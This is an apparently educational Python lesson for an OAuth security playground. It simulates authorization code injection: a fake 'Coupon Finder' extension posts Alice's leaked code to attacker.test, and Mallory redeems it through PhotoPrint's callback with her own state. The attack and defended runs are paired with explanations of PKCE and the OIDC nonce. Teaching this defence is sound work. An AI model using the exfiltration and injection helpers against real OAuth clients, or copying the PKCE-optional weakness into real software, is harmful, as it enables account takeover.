"""Authorization code injection: Alice's leaked code, delivered with Mallory's
own valid state, is redeemed by the confidential client with its own secret
(RFC 9700 4.5)."""

from urllib.parse import parse_qsl, urlencode, urlsplit

from playground import Lesson

# The browser extension "Coupon Finder" (its id, as Chrome writes extension
# origins): it may watch every navigation of Alice's browser.
EXTENSION = "chrome-extension://ijfhehfecgjaneaiecioneilhpnlnkdl"
CODE_CHALLENGE_FAILED = {
    "error": "invalid_grant",
    "error_description": "Code challenge failed.",
}

lesson = Lesson(
    "Authorization code injection: Alice's code in Mallory's session",
    level="advanced",
    kind="attack",
    weakness=("client.no_pkce", "as.pkce_optional"),
    summary=(
        "Alice's fresh authorization code leaks to Mallory before PhotoPrint "
        "redeems it. Mallory cannot redeem it herself (PhotoPrint is a "
        "confidential client), so she lets PhotoPrint do it: she starts her "
        "own PhotoPrint sign-in for a valid state, and sends Alice's code "
        "with that state to PhotoPrint's callback. PhotoPrint's state check "
        "passes, its client secret works, and Mallory's session is signed in "
        "as Alice. Only something that binds the code to the browser that "
        "asked for it stops this: PKCE, or for OpenID Connect the nonce. The "
        "attack run turns PKCE off (client.no_pkce, as.pkce_optional)."
    ),
    defence="""
**Bind every authorization code to the browser session that asked for it.**

- **PKCE** (RFC 9700 4.5.3.1, 2.1.1; RFC 7636): PhotoPrint sends a
  `code_challenge` and keeps the `code_verifier` in the session that started
  the flow. An injected code arrives in another session, whose verifier does
  not match the code's challenge: the token endpoint answers **400**
  `invalid_grant`, "Code challenge failed." (RFC 7636 4.6), and PhotoPrint
  shows "Sign-in failed". Mallory's attempt does not even use up the code.
- **OpenID Connect `nonce`** (RFC 9700 4.5.3.2): the ID token from the token
  endpoint must carry the nonce of *this* session's request, and "unless and
  until that check succeeds, all tokens (ID Tokens and the access token) are
  disregarded". In the attack run, step 6 shows PhotoPrint refusing that
  way with PKCE off.
- What does **not** help (RFC 9700 4.5.1): `state` (Mallory brings her own
  valid one), the client secret (PhotoPrint itself redeems the code), the
  redirect URI check and the code being issued to this client (all true).
- Keep codes from leaking at all: no third-party content on the callback
  page, `Referrer-Policy: no-referrer`, short-lived single-use codes (RFC
  9700 4.2.4, RFC 6749 4.1.2). A code redeemed twice revokes the tokens
  issued from it: in the attack run, Alice's own sign-in in step 5 revokes
  the tokens of Mallory's session.
""",
)


def extension_reports(browser, url, attacker_url):
    """Coupon Finder sees the redirect as the browser receives it, before the
    browser follows it, and posts the address's parameters home."""
    params = dict(parse_qsl(urlsplit(url).query))
    browser.fetch(
        f"{attacker_url}/report",
        method="POST",
        data={"url": url, **params},
        mode="no-cors",
        origin=EXTENSION,
    )


def inject(browser, client_url, code, issuer, scope=None):
    """Mallory starts her own PhotoPrint sign-in (for a state of her session),
    then opens PhotoPrint's callback with Alice's code and that state."""
    login = f"{client_url}/login" + (f"?{urlencode({'scope': scope})}" if scope else "")
    browser.open(login)
    state = browser.redirect_params.get("state", "")
    forged = {"code": code, "state": state, "iss": issuer}
    browser.open(f"{client_url}/callback?{urlencode(forged)}")
    return state


@lesson.step("Alice signs in to PhotoPrint")
def alice_signs_in(run):
    """
    An ordinary sign-in: Alice clicks Sign in on PhotoPrint, signs in at the
    authorization server as `alice` and approves. The server answers **302**
    to `https://photoprint.test/callback?code=...&state=...&iss=...`.

    Look at PhotoPrint's authorization request (the first 302):

    - **Weakness on**: no `code_challenge` (`client.no_pkce`), and the
      server, which normally requires PKCE of every client, lets that pass
      (`as.pkce_optional`). The code is bound to nothing but the client.
    - **Defended**: `code_challenge=...&code_challenge_method=S256`. The code
      verifier stays in Alice's PhotoPrint session, server-side.

    The browser has the redirect but has not followed it yet.
    """
    run.browser.open(f"{run.client_url}/")
    run.browser.click_link("sign-in")
    sent = run.browser.redirect_params
    if run.weakness_on:
        run.check(
            "PhotoPrint's request has no code_challenge", "code_challenge" not in sent
        )
    else:
        run.check(
            "PhotoPrint's request carries an S256 code_challenge",
            sent.get("code_challenge_method") == "S256",
        )
    run.browser.follow_redirect()
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    run.alice_callback = run.browser.redirect_location or ""
    run.alices_code = run.browser.redirect_params.get("code", "")
    run.check(
        "the server answers 302 to PhotoPrint's /callback with a code",
        run.alice_callback.startswith(f"{run.client_url}/callback?code="),
    )


@lesson.step("A browser extension reports the redirect to Mallory")
def extension_leaks_the_code(run):
    """
    Alice installed *Coupon Finder*, a browser extension allowed to watch her
    navigations. It sees the redirect as the browser receives it, before the
    browser follows it, and posts the address home: look at the request from
    `chrome-extension://...` to `attacker.test/report`. Mallory now holds
    Alice's **code**, her `state` and `iss` (an attacker who can read the
    authorization response, RFC 9700 3 (A3)).

    Her server acts at once: the next two steps happen before Alice's
    browser has requested `/callback`.
    """
    extension_reports(run.browser, run.alice_callback, run.attacker.url)
    run.check(
        "Mallory has Alice's code", run.attacker.loot("code") == [run.alices_code]
    )
    run.check("the code is unused", not run.store.code(run.alices_code).used)


@lesson.step("Mallory starts her own sign-in at PhotoPrint")
def mallory_gets_a_state(run):
    """
    Mallory cannot redeem the code herself: it was issued to PhotoPrint, a
    confidential client, and the token endpoint wants PhotoPrint's secret.
    She lets PhotoPrint redeem it for her (RFC 9700 4.5.1).

    In **her own browser** she clicks Sign in on PhotoPrint. PhotoPrint
    answers 302 to the authorization server with a fresh `state`, which it
    also keeps in *Mallory's* session (and, defended, a code challenge whose
    verifier it keeps there too). Mallory copies the `state` and does not
    follow the redirect: she needs no code of her own.
    """
    mallory = run.attacker.browser
    mallory.open(f"{run.client_url}/")
    mallory.click_link("sign-in")
    run.mallorys_state = mallory.redirect_params.get("state", "")
    run.check("PhotoPrint gave Mallory's session a state", run.mallorys_state != "")


@lesson.step("Mallory sends Alice's code with her own state")
def mallory_injects(run):
    """
    Mallory opens `https://photoprint.test/callback?code=<Alice's code>&state=<her state>&iss=https://auth.photos.test`
    in her browser (RFC 9700 4.5.1 step 3).

    Every check of plain OAuth passes: the `state` is the one Mallory's
    session expects, `iss` names the right server, PhotoPrint authenticates
    with **its own secret** (`Authorization: Basic` in the back-channel
    `POST /token`), the code was issued to PhotoPrint for this redirect URI
    (step 5 of 4.5.1). `state` protects Alice from CSRF; it does nothing
    here, where the victim's code comes to the attacker's session.

    - **Weakness on**: **200**: Mallory's page says "Hello Alice Liddell from
      Oxford!" and lists Alice's photos. Her PhotoPrint session is Alice's.
    - **Defended**: PhotoPrint sends the `code_verifier` of *Mallory's*
      session; the code's challenge is Alice's. The token endpoint answers
      **400** `invalid_grant`, "Code challenge failed.", and Mallory sees
      "Sign-in failed".
    """
    mallory = run.attacker.browser
    forged = {"code": run.alices_code, "state": run.mallorys_state, "iss": run.issuer}
    mallory.open(f"{run.client_url}/callback?{urlencode(forged)}")
    token_requests = [e for e in run.exchanges if e.label == "POST /token"]
    sent = token_requests[0].request if token_requests else None
    run.check(
        "the state check passed: PhotoPrint sent the code to /token, with its secret",
        sent is not None
        and sent.form.get("code") == run.alices_code
        and (sent.header("Authorization") or "").startswith("Basic "),
    )
    if run.weakness_on:
        run.check("PhotoPrint answers Mallory 200", mallory.status == 200)
        run.check(
            'Mallory\'s page says "Hello Alice Liddell from Oxford!"',
            "Hello Alice Liddell from Oxford!" in mallory.page.text,
        )
        run.check(
            "and lists Alice's photos",
            "Tea party" in mallory.page.text and "Croquet lawn" in mallory.page.text,
        )
    else:
        answer = token_requests[0].response if token_requests else None
        run.check(
            "the request carried the code_verifier of Mallory's session",
            sent is not None and bool(sent.form.get("code_verifier")),
        )
        run.check(
            'the token endpoint answers 400 invalid_grant "Code challenge failed."',
            answer is not None
            and answer.status == 400
            and answer.body
            == b'{"error": "invalid_grant", '
            b'"error_description": "Code challenge failed."}',
        )
        run.check(
            'Mallory sees "Sign-in failed" (400)',
            mallory.status == 400 and "Sign-in failed" in mallory.page.text,
        )
        run.check(
            "Alice's code is still unused", not run.store.code(run.alices_code).used
        )


@lesson.step("Alice's browser arrives second")
def alice_arrives(run):
    """
    Now Alice's browser follows the redirect of step 1.

    - **Weakness on**: the code is spent. The server answers PhotoPrint
      **400** `invalid_grant`, "The code was already used; the tokens issued
      from it are revoked." (RFC 6749 4.1.2: it SHOULD revoke them, not
      knowing which party is the thief). Alice sees "Sign-in failed" and
      tries again. Mallory's refresh token is dead; what she saw is seen,
      and her access token, a JWT the API checks by itself, works until it
      expires.
    - **Defended**: Mallory's failed attempt did not spend the code:
      PhotoPrint redeems it with Alice's own verifier and greets her,
      **200**.
    """
    run.browser.follow_redirect()
    if run.weakness_on:
        run.check(
            'Alice sees "Sign-in failed" (400)',
            run.browser.status == 400 and "Sign-in failed" in run.browser.page.text,
        )
        run.check(
            "because the code was already used",
            "The code was already used; the tokens issued from it are revoked."
            in run.browser.page.text,
        )
        reused = run.events_named("authorization_code.reused")
        run.check(
            "the server logged authorization_code.reused and revoked both tokens",
            len(reused) == 1
            and reused[0].detail
            == "1 access token and 1 refresh token issued from this code revoked",
        )
    else:
        run.check(
            'Alice sees "Hello Alice Liddell from Oxford!"',
            run.browser.status == 200
            and "Hello Alice Liddell from Oxford!" in run.browser.page.text,
        )


@lesson.step("With OpenID Connect, the nonce catches it too")
def nonce_stops_it(run):
    """
    The same attack against an OpenID Connect sign-in (`scope=openid ...`).
    PhotoPrint sends a `nonce` with the request and keeps it in the session;
    the ID token the token endpoint returns must carry it (OIDC Core
    3.1.3.7, RFC 9700 4.5.3.2).

    Alice starts an OpenID Connect sign-in at PhotoPrint (her session at the
    authorization server is still open, so she only approves the new
    scopes); Coupon Finder reports the redirect; Mallory starts her own
    OpenID Connect sign-in at PhotoPrint and injects Alice's code as before.

    - **Weakness on** (PKCE still off): the token endpoint answers **200**,
      but the ID token carries *Alice's* nonce, not the one of Mallory's
      session. PhotoPrint refuses before using any token: **400** "Sign-in
      refused", "The ID token's nonce is not the one this browser's request
      sent." No request to the photos API follows.
    - **Defended**: PKCE refuses first, as in step 4: `invalid_grant`,
      "Code challenge failed.".
    """
    scope = "openid profile basic photos.read"
    run.browser.open(f"{run.client_url}/login?{urlencode({'scope': scope})}")
    run.browser.follow_redirect()
    run.browser.approve()  # Alice is still signed in; openid is a new scope
    callback = run.browser.redirect_location or ""
    code = run.browser.redirect_params.get("code", "")
    extension_reports(run.browser, callback, run.attacker.url)
    mallory = run.attacker.browser
    inject(mallory, run.client_url, code, run.issuer, scope=scope)
    token_requests = [e for e in run.exchanges if e.label == "POST /token"]
    answer = token_requests[-1].response if token_requests else None
    api_calls = [e for e in run.exchanges if e.request.host == "api.photos.test"]
    run.check(
        "Alice's OpenID Connect request carried a nonce",
        "nonce=" in (run.exchanges[0].response.header("Location") or ""),
    )
    if run.weakness_on:
        run.check(
            "the token endpoint answers 200, with an ID token",
            answer is not None and answer.status == 200 and b"id_token" in answer.body,
        )
        run.check(
            "PhotoPrint refuses: \"The ID token's nonce is not the one this "
            "browser's request sent.\"",
            mallory.status == 400
            and "The ID token's nonce is not the one this browser's request sent."
            in mallory.page.text,
        )
        run.check("and calls no API with the tokens", api_calls == [])
    else:
        run.check(
            'the token endpoint answers 400 invalid_grant "Code challenge failed."',
            answer is not None
            and answer.status == 400
            and b"Code challenge failed." in answer.body,
        )
    run.check(
        "Mallory's session is not signed in as Alice",
        "Hello Alice" not in mallory.page.text,
    )
